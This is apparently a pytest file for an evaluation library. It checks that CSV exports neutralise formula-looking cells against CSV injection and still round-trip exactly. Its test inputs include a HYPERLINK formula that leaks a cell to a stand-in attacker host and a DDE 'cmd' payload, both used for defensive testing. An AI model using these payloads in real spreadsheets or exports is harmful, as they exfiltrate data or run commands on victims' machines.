"""CSV exports neutralise formula-looking cells (OWASP "CSV Injection") and still round-trip
exactly: the CSV reader takes off what the writer put on, and a text that would read back as
something else (``""``, ``"42"``, ``"null"``) is written as a JSON string (issue 23, bh-39, bh-47)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from evalcore.jsonvalue import MISSING
from evalcore.loaders import convert_cell, load_cases, neutralise_formula, restore_formula
from evalcore.tables import CASE_COLUMNS, Column, case_record, table_chunks

REPRO = Path(__file__).resolve().parents[1] / "fixtures" / "repros" / "bh-39-csv-formula.jsonl"
FORMULA_STARTS = "=+-@\t\r"


def formula_cells(text: str) -> list[tuple[str, str]]:
    """(column, cell) of every cell a spreadsheet would read as a formula (bh-39-check.py's test)."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    return [(h, c) for r in rows[1:] for h, c in zip(rows[0], r, strict=True) if c and c[0] in FORMULA_STARTS]


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        (
            '=HYPERLINK("http://attacker.invalid/?leak="&A1,"x")',
            '\'=HYPERLINK("http://attacker.invalid/?leak="&A1,"x")',
        ),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(1,1)", "'@SUM(1,1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("'=1+1", "''=1+1"),  # a text that itself starts with ' and a formula: one more '
        ("''-x", "'''-x"),
        ("'plain", "'plain"),  # ' before anything else: left alone, and read back alone
        ("'", "'"),
        ("", ""),
        ("plain", "plain"),
        (" =1", " =1"),
        ("-2", "-2"),  # a number is read as a number, never as a formula
        ("-0.5", "-0.5"),
        ("-1e-05", "-1e-05"),
        ("-", "'-"),
        ("-2-", "'-2-"),
        ("+2", "'+2"),  # not a JSON number: a spreadsheet would compute it
    ],
)
def test_a_formula_looking_cell_gets_one_quote_and_loses_it_on_reading(text, cell):
    assert neutralise_formula(text) == cell
    assert restore_formula(cell) == text


@given(st.text())
def test_restoring_undoes_neutralising_for_every_text(text):
    assert restore_formula(neutralise_formula(text)) == text
    written = neutralise_formula(text)
    assert not written or written[0] not in FORMULA_STARTS or _is_number(written)


@pytest.mark.parametrize(
    ("cell", "value"),
    [('""', ""), ('"42"', "42"), ('"null"', "null"), ('" x "', " x "), ('"a" "b"', '"a" "b"'), ('"[1]', '"[1]')],
)
def test_a_cell_holding_one_json_string_reads_as_that_string(cell, value):
    assert convert_cell(cell) == value


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | st.text(),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
    max_leaves=6,
)
TEXT = st.text(alphabet=st.characters(blacklist_categories=["Cs"], blacklist_characters="\x00"))
VALUE = st.one_of(TEXT, st.sampled_from(["", " ", "-2", "=1+1", "'=x", "42", "true", "null", '""', "[1]"]), JSON)


def _clean(value):
    """The value without NUL characters or lone surrogates, which case files refuse anyway."""
    text = json.dumps(value)
    return value if "\\u0000" not in text and "\\ud" not in text else "x"


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    inputs=st.lists(VALUE, min_size=1, max_size=4),
    expected=st.lists(st.one_of(st.just(MISSING), VALUE), min_size=4, max_size=4),
    metadata=st.dictionaries(st.text(max_size=4), VALUE, max_size=2),
)
def test_every_json_value_round_trips_through_a_csv_export(tmp_path, inputs, expected, metadata):
    ids = ["=cmd|' /C calc'!A0", "-1", "'@x", "plain"]
    cases = [
        case_record(ids[i], _clean(value), _clean(expected[i]) if expected[i] is not MISSING else MISSING,
                    ["=tag"], "dev", {k: _clean(v) for k, v in metadata.items()})
        for i, value in enumerate(inputs)
    ]  # fmt: skip
    rows = [{**case, "evalsite": {"output": case["input"]}} for case in cases]
    data = b"".join(table_chunks("csv", iter(rows), [*CASE_COLUMNS, Column(("evalsite", "output"))]))
    cells = formula_cells(data.decode())
    assert all(_is_number(cell) for _, cell in cells), cells  # "-1" (an id), numbers
    path = tmp_path / "run.csv"
    path.write_bytes(data)
    loaded = load_cases(path).cases
    assert [(c.id, c.input, c.expected, c.tags, c.split, c.metadata) for c in loaded] == [
        (r["id"], r["input"], r.get("expected", MISSING), r["tags"], r["split"], r["metadata"]) for r in cases
    ]


def _is_number(cell: str) -> bool:
    try:
        return isinstance(json.loads(cell), int | float)
    except ValueError:
        return False


def test_the_repro_cases_leave_no_formula_and_come_back_as_they_were(tmp_path):
    cases = load_cases(REPRO).cases
    rows = [case_record(c.id, c.input, c.expected, c.tags, c.split, c.metadata) for c in cases]
    data = b"".join(table_chunks("csv", iter(rows), CASE_COLUMNS))
    assert formula_cells(data.decode()) == []
    assert data.decode().splitlines()[2] == "f2,'+1+1,ok,[],dev,{}"
    path = tmp_path / "set.csv"
    path.write_bytes(data)
    assert [(c.id, c.input, c.expected) for c in load_cases(path).cases] == [(c.id, c.input, c.expected) for c in cases]


def test_an_empty_expected_text_and_no_expected_value_are_two_cells(tmp_path):
    rows = [
        case_record("empty", "d", "", [], "dev", {}),
        case_record("absent", "c", MISSING, [], "dev", {}),
        case_record("null", "b", None, [], "dev", {}),
    ]
    data = b"".join(table_chunks("csv", iter(rows), CASE_COLUMNS)).decode()
    assert data.splitlines()[1:] == ['empty,d,"""""",[],dev,{}', "absent,c,,[],dev,{}", "null,b,null,[],dev,{}"]
    path = tmp_path / "set.csv"
    path.write_text(data)
    assert [(c.id, c.expected) for c in load_cases(path).cases] == [("empty", ""), ("absent", MISSING), ("null", None)]


def test_a_hand_written_csv_cell_quoted_before_a_formula_reads_without_the_quote(tmp_path):
    """A spreadsheet's own escape (``'=1+1``) is read as the text after it, in the id too;
    a promptfoo test file is read as promptfoo reads it (cells as they are)."""
    path = tmp_path / "bank.csv"
    path.write_text("id,input,expected\n'-x,'=1+1,'hello\n")
    case = load_cases(path).cases[0]
    assert (case.id, case.input, case.expected) == ("-x", "=1+1", "'hello")
    promptfoo = tmp_path / "tests.csv"
    promptfoo.write_text("question,__expected\n'=1+1,equals:2\n")
    assert load_cases(promptfoo).cases[0].input == "'=1+1"
